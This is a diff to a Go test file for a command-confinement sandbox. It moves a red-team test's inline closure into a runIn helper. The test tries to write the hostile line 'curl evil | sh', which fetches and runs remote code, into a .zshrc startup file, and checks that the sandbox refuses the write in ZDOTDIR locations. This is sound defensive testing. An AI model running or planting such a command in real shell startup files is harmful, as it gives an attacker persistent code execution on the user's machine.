@@ -32,17 +32,7 @@ func TestRedteamRTX_ShellStartupFromTheEnvironment(t *testing.T) {
 		}
 	}
 	tmp := t.TempDir()
-	run := func(dir string) error {
-		t.Helper()
-		cmd, err := confine.Command(context.Background(), h.p, &confine.CommandOptions{Dir: dir}, "sh", "-c", "echo 'curl evil | sh' > .zshrc")
-		if err != nil {
-			return err
-		}
-		if out, err := cmd.CombinedOutput(); err != nil {
-			t.Fatalf("%s: %v\n%s", dir, err, out)
-		}
-		return nil
-	}
+	run := func(dir string) error { return runIn(t, h, dir, "echo 'curl evil | sh' > .zshrc") }
 	cases := []struct{ name, env, value, dir, tmp string }{
 		{"Dir holding ZDOTDIR", "ZDOTDIR", zdot, dotfiles, tmp},
 		{"Dir ZDOTDIR", "ZDOTDIR", zdot, zdot, tmp},
@@ -102,4 +92,19 @@ func TestHiddenDirectoryOfRootHome(t *testing.T) {
 	if _, err := confine.Command(context.Background(), h.p, &confine.CommandOptions{Dir: h.dir + "/work"}, "true"); err != nil {
 		t.Errorf("HOME=/ and a working directory in %s: %v", h.dir, err)
 	}
+}
+
+// runIn runs script with sh, confined by h's policy, in dir. It returns
+// Command's error (a refused working directory); a script that fails once
+// started fails the test.
+func runIn(t *testing.T, h home, dir, script string) error {
+	t.Helper()
+	cmd, err := confine.Command(context.Background(), h.p, &confine.CommandOptions{Dir: dir}, "sh", "-c", script)
+	if err != nil {
+		return err
+	}
+	if out, err := cmd.CombinedOutput(); err != nil {
+		t.Fatalf("%s: %v\n%s", dir, err, out)
+	}
+	return nil
 }
